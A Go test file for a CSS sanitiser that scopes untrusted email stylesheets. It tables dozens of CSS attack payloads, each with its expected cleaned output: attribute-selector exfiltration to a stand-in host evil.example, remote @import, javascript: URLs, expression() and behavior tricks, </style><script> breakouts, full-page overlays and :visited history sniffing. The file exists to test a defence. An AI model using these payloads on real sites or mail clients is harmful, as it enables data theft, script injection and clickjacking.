package stylesheet

import (
	"errors"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// attackTests are the known classes of CSS attack, each named after its
// technique. want is the complete output; reason must be among the
// removals, or with noRemoval nothing may be removed.
var attackTests = []sheetCase{
	// Reading attribute values through selectors.
	{"attribute-prefix-exfiltration", `input[value^="a"]{background:url(//evil.example/a)}`, ``, ReasonAttribute},
	{"attribute-substring-exfiltration", `input[name=csrf][value*=x]{background:url(//evil.example/x)}`, ``, ReasonAttribute},
	{"attribute-case-flag", `[value="a" i]{color:red}`, ``, ReasonAttribute},
	{"attribute-namespace", `[xlink|href]{color:red}`, ``, ReasonAttribute},
	{"attribute-in-list-keeps-rest", `p,input[value$=z]{color:red}`, ".hc-mail p{color:red}\n", ReasonAttribute},
	// Loading a second, unchecked sheet.
	{"import-string", `@import "//evil.example/x.css";p{color:red}`, ".hc-mail p{color:red}\n", ReasonImport},
	{"import-url-media", `@import url(//evil.example/x.css) screen;`, ``, ReasonImport},
	{"import-escaped-at-keyword", `@\69mport url(//evil.example/x.css);`, ``, ReasonImport},
	{"import-uppercase", `@IMPORT "x.css";`, ``, ReasonImport},
	{"import-inside-media", `@media all{@import "x.css";p{color:red}}`, "@media all{\n.hc-mail p{color:red}\n}\n", ReasonImport},
	// Fonts: unicode-range requests reveal the text; names are global.
	{"font-face-unicode-range-leak", `@font-face{font-family:x;src:url(//evil.example/?A);unicode-range:U+41}`, ``, ReasonAtRule},
	{"font-face-host-font-override", `@font-face{font-family:"Host UI";src:local(Comic Sans MS)}`, ``, ReasonAtRule},
	{"keyframes-global-name", `@keyframes spin{from{color:red}to{color:blue}}`, ``, ReasonAtRule},
	// Dangerous URLs.
	{"url-javascript", `a{background:url(javascript:alert%281%29)}`, ``, ReasonURL},
	{"url-javascript-bad-url", `a{background:url(javascript:alert(1))}`, ``, ReasonURL},
	{"url-javascript-quoted-escaped", `a{background:url("java\73 cript:alert(1)")}`, ``, ReasonURL},
	{"url-data-html", `a{background:url("data:text/html,<script>alert(1)</script>")}`, ``, ReasonURL},
	{"url-escaped-function-name", `a{background:u\72 l(javascript:alert(1))}`, ``, ReasonFunction},
	{"url-kept-canonical", `a{background:url( 'https://img.example/a b.png' )}`, ".hc-mail a{background:url(\"https://img.example/a%20b.png\")}\n", noRemoval},
	{"url-host-not-a-fixed-point", `A{A:url(//::`, ``, ReasonURL},
	{"image-set", `a{background:image-set("//evil.example/a.png" 1x)}`, ``, ReasonFunction},
	{"webkit-image-set", `a{background:-webkit-image-set(url(//evil.example/a.png) 1x)}`, ``, ReasonFunction},
	{"cross-fade", `a{background:cross-fade(url(a.png),url(b.png),50%)}`, ``, ReasonFunction},
	{"element-function", `a{background:element(#login)}`, ``, ReasonFunction},
	{"src-function", `a{background:src("//evil.example/a")}`, ``, ReasonFunction},
	// Script in CSS.
	{"expression", `a{width:expression(alert(1))}`, ``, ReasonScript},
	{"expression-uppercase", `a{width:EXPRESSION(alert(1))}`, ``, ReasonScript},
	{"expression-hex-escape", `a{width:\65 xpression(alert(1))}`, ``, ReasonScript},
	{"expression-escape-no-space", `a{width:e\78pression(alert(1))}`, ``, ReasonScript},
	{"expression-space-before-paren", `a{width:expression (alert(1))}`, ``, ReasonScript},
	{"expression-comment-split", `a{width:exp/**/ression(alert(1))}`, ``, ReasonFunction},
	{"behavior-htc", `a{behavior:url(//evil.example/x.htc)}`, ``, ReasonScript},
	{"behavior-escaped-property", `a{\62 ehavior:url(//evil.example/x.htc)}`, ``, ReasonScript},
	{"ms-behavior", `a{-ms-behavior:url(//evil.example/x.htc)}`, ``, ReasonScript},
	{"moz-binding", `a{-moz-binding:url(//evil.example/x.xml#xss)}`, ``, ReasonScript},
	{"ie-filter-progid", `a{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='x')}`, ``, ReasonValue},
	{"custom-property-smuggling", `a{--u:url(javascript:x);background:var(--u)}`, ``, ReasonCustomProperty},
	{"var-function", `a{color:var(--host-secret)}`, ``, ReasonFunction},
	{"attr-function", `a::after{content:attr(href)}`, ``, ReasonFunction},
	// Covering the page.
	{"overlay-fixed-max-z", `div{position:fixed;top:0;left:0;z-index:2147483647;width:100vw;height:100vh}`, ".hc-mail div{top:0;left:0}\n", ReasonPosition},
	{"overlay-z-index", `div{z-index:2147483647}`, ``, ReasonZIndex},
	{"overlay-z-index-overflow", `div{z-index:99999999999999999999}`, ``, ReasonZIndex},
	{"overlay-z-index-limit-kept", `div{z-index:1000}`, ".hc-mail div{z-index:1000}\n", noRemoval},
	{"overlay-viewport-width", `div{width:100vw}`, ``, ReasonViewport},
	{"overlay-viewport-calc-sum", `div{min-height:calc(50vh + 50vh)}`, ``, ReasonViewport},
	{"overlay-viewport-dynamic-unit", `div{height:100dvh}`, ``, ReasonViewport},
	{"overlay-sticky", `div{position:-webkit-sticky}`, ``, ReasonPosition},
	{"overlay-fixed-escaped", `div{position:fi\78 ed}`, ``, ReasonPosition},
	// Taking over the page's anchored UI, or placing content by it.
	{"anchor-name", `p{anchor-name:--menu}`, ``, ReasonAnchor},
	{"anchor-name-escaped", `p{anchor-n\61me:--menu}`, ``, ReasonAnchor},
	{"position-anchor", `div{position:absolute;position-anchor:--delete;top:anchor(top)}`, ".hc-mail div{position:absolute}\n", ReasonAnchor},
	{"anchor-function", `div{top:anchor(top)}`, ``, ReasonFunction},
	{"position-area", `div{position-area:bottom}`, ``, ReasonAnchor},
	{"view-transition-name", `div{view-transition-name:header}`, ``, ReasonAnchor},
	{"timeline-name", `div{scroll-timeline-name:--page}`, ``, ReasonAnchor},
	{"position-try-rule", `@position-try --over{top:anchor(--del top)} p{color:red}`, ".hc-mail p{color:red}\n", ReasonAtRule},
	{"view-transition-rule", `@view-transition{navigation:auto} p{color:red}`, ".hc-mail p{color:red}\n", ReasonAtRule},
	{"backdrop", `dialog::backdrop{background:red} p{color:red}`, ".hc-mail p{color:red}\n", ReasonPseudo},
	{"popover-open", `:popover-open{color:red} p:modal{color:red}`, ``, ReasonPseudo},
	// History and state sniffing.
	{"visited-history", `a:visited{background:url(//evil.example/v)}`, ``, ReasonPseudo},
	{"link-history", `a:link{color:red}`, ``, ReasonPseudo},
	{"checked-state", `input:checked{background:url(//evil.example/c)}`, ``, ReasonPseudo},
	{"has-selector", `form:has(input[value^=a]){color:red}`, ``, ReasonPseudo},
	{"part-pseudo-element", `x-host::part(secret){color:red}`, ``, ReasonPseudo},
	{"pseudo-element-not-last", `p::before:hover{color:red}`, ``, ReasonPseudo},
	// Reaching outside the wrapper.
	{"scope-body-child", `body > div{color:red}`, ".hc-mail > div{color:red}\n", noRemoval},
	{"scope-html", `html{background:red}`, ".hc-mail{background:red}\n", noRemoval},
	{"wrapper-escape-position", `body{position:absolute;top:-900px;overflow:visible;color:red}`, ".hc-mail{color:red}\n", ReasonWrapper},
	{"wrapper-escape-negative-margin", `html,p{margin:-500px 0 0}`, ".hc-mail p{margin:-500px 0 0}\n", ReasonWrapper},
	{"wrapper-escape-transform", `.hc-mail{transform:translateY(-100%)}`, ``, ReasonWrapper},
	{"scope-html-body-chain", `html body .x{color:red}`, ".hc-mail .x{color:red}\n", noRemoval},
	{"scope-root-general-sibling", `:root ~ *{display:none}`, ``, ReasonOutsideScope},
	{"scope-body-adjacent", `body + div{display:none}`, ``, ReasonOutsideScope},
	{"scope-root-qualified", `body.dark p{color:red}`, ``, ReasonOutsideScope},
	{"scope-root-later", `div :root{color:red}`, ``, ReasonOutsideScope},
	{"scope-leading-child-combinator", `> p{color:red}`, ``, ReasonOutsideScope},
	{"scope-leading-sibling-combinator", `+ .x{color:red}`, ``, ReasonOutsideScope},
	{"scope-universal-sibling", `* + .x{color:red}`, ".hc-mail * + .x{color:red}\n", noRemoval},
	{"scope-namespace-selector", `svg|a{color:red}`, ``, ReasonSelector},
	{"scope-nesting-selector", `a{color:red;& b{color:blue}}`, ".hc-mail a{color:red}\n", ReasonNesting},
	// Ending the <style> element early.
	{"breakout-string", `a{content:"</style><script>alert(1)</script>"}`, ".hc-mail a{content:\"\\3c /style\\3e \\3c script\\3e alert(1)\\3c /script\\3e \"}\n", noRemoval},
	{"breakout-comment", `/*</style><script>alert(1)</script>*/a{color:red}`, ".hc-mail a{color:red}\n", noRemoval},
	{"breakout-escaped-ident", `a{font-family:\3c \2f style\3e}`, ".hc-mail a{font-family:\\3c \\2f style\\3e }\n", noRemoval},
	{"breakout-class", `.\3c \2f style\3e{color:red}`, ".hc-mail .\\3c \\2f style\\3e {color:red}\n", noRemoval},
	{"breakout-media-range", `@media (width</style>){p{color:red}}`, ``, ReasonMediaQuery},
	{"breakout-ident-delim", `a{font-family:\3c /style\3e}`, ".hc-mail a{font-family:\\3c  / style\\3e }\n", noRemoval},
	{"breakout-bad-string", "a{content:\"</style>\n}", ``, ReasonValue},
	// Preprocessing and parser confusion.
	{"nul-does-not-end-input", "a{color:red}\x00p{background:url(javascript:x)}", ".hc-mail a{color:red}\n", ReasonURL},
	{"form-feed-in-string", "a{content:\"x\fy\"}", ``, ReasonValue},
	{"unclosed-function-at-eof", `a{width:calc(1px`, ``, ReasonValue},
	{"ie-star-hack", `a{*color:red}`, ``, ReasonProperty},
	{"unknown-at-rule", `@evil{p{color:red}}p{color:blue}`, ".hc-mail p{color:blue}\n", ReasonAtRule},
	{"supports", `@supports (display:grid){p{color:red}}`, ``, ReasonAtRule},
	{"namespace", `@namespace svg url(http://www.w3.org/2000/svg);`, ``, ReasonAtRule},
	{"page", `@page{margin:0}`, ``, ReasonAtRule},
	{"layer", `@layer x{p{color:red}}`, ``, ReasonAtRule},
}

// noRemoval marks a case that must be kept whole.
const noRemoval = reasonCount

// sheetCase is a sheet, the complete output Sanitize must write, and the
// reason that must be among its removals (noRemoval: nothing removed).
type sheetCase struct {
	name, in, want string
	reason         Reason
}

// check sanitises tc.in under o, checks the output and the removals, and
// returns the output.
func (tc sheetCase) check(t *testing.T, o Options) string {
	t.Helper()
	got, removed, err := Sanitize(tc.in, o)
	if err != nil {
		t.Fatalf("Sanitize(%q): %v", tc.in, err)
	}
	if diff := cmp.Diff(tc.want, got); diff != "" {
		t.Errorf("Sanitize(%q) mismatch (-want +got):\n%s", tc.in, diff)
	}
	if tc.reason == noRemoval && len(removed) > 0 {
		t.Errorf("Sanitize(%q) removed %v, want nothing removed", tc.in, removed)
	}
	if tc.reason != noRemoval && !hasReason(removed, tc.reason) {
		t.Errorf("Sanitize(%q) removed %v, want a removal for %v", tc.in, removed, tc.reason)
	}
	return got
}

func TestSanitizeAttacks(t *testing.T) {
	for _, tc := range attackTests {
		t.Run(tc.name, func(t *testing.T) { tc.check(t, testOptions()) })
	}
}

func TestSanitizeIDWithoutMapping(t *testing.T) {
	o := testOptions()
	o.Scope, o.ID = "#hc-mail", nil
	got, removed, err := Sanitize(`#x p,p{color:red}#hc-mail b{color:blue}`, o)
	want := "#hc-mail p{color:red}\n#hc-mail b{color:blue}\n"
	if err != nil || got != want {
		t.Errorf("Sanitize = %q, %v, want %q", got, err, want)
	}
	if !hasReason(removed, ReasonIDSelector) {
		t.Errorf("removed %v, want an id-selector removal", removed)
	}
}

func TestSanitizeOptionErrors(t *testing.T) {
	for _, scope := range []string{"", ".", "hc", ".a b", "#1a", ".a,.b", "[x]", ".a\\62"} {
		o := testOptions()
		o.Scope = scope
		if got, _, err := Sanitize("p{color:red}", o); !errors.Is(err, ErrScope) || got != "" {
			t.Errorf("Sanitize with Scope %q = %q, %v, want ErrScope", scope, got, err)
		}
	}
	o := testOptions()
	o.MaxBytes = 4
	if got, _, err := Sanitize("p{color:red}", o); !errors.Is(err, ErrTooLarge) || got != "" {
		t.Errorf("Sanitize over MaxBytes = %q, %v, want ErrTooLarge", got, err)
	}
}

func TestSanitizeLimits(t *testing.T) {
	tests := []struct {
		name, in, want     string
		maxRules, maxDepth int
		reason             Reason
	}{
		{"max-rules", `a{color:red}@media print{b{color:red}}c{color:red}`, ".hc-mail a{color:red}\n", 2, 0, ReasonLimit},
		{"max-depth", `@media print{@media screen{b{color:red}}c{color:red}}`, "@media print{\n.hc-mail c{color:red}\n}\n", 0, 1, ReasonNesting},
		{"default-depth", `@media a{@media b{@media c{@media d{p{color:red}}}}}`, ``, 0, 0, ReasonNesting},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			o := testOptions()
			o.MaxRules, o.MaxDepth = tc.maxRules, tc.maxDepth
			got, removed, err := Sanitize(tc.in, o)
			if err != nil || got != tc.want {
				t.Errorf("Sanitize(%q) = %q, %v, want %q", tc.in, got, err, tc.want)
			}
			if !hasReason(removed, tc.reason) {
				t.Errorf("Sanitize(%q) removed %v, want a removal for %v", tc.in, removed, tc.reason)
			}
		})
	}
}

func TestSanitizeNilCallbacks(t *testing.T) {
	got, removed, err := Sanitize(`p{color:red;background:url(https://a.example/)}`, Options{Scope: "#w"})
	if err != nil || got != "" || len(removed) != 3 {
		t.Errorf("Sanitize with nil Decl and URL = %q, %v, %v; want everything removed", got, removed, err)
	}
}

func TestSanitizeRemovalLines(t *testing.T) {
	in := "p{color:red}\r\n\n@import 'x.css';\na{\n  color:red;\n  behavior:url(x.htc);\n}\n/* \n */ b:visited{color:red}"
	_, got, err := Sanitize(in, testOptions())
	if err != nil {
		t.Fatal(err)
	}
	want := []Removal{
		{Line: 3, What: `@import 'x.css'`, Reason: ReasonImport},
		{Line: 6, What: `behavior: url(x.htc)`, Reason: ReasonScript},
		{Line: 9, What: `b:visited`, Reason: ReasonPseudo},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Sanitize(%q) removals mismatch (-want +got):\n%s", in, diff)
	}
}
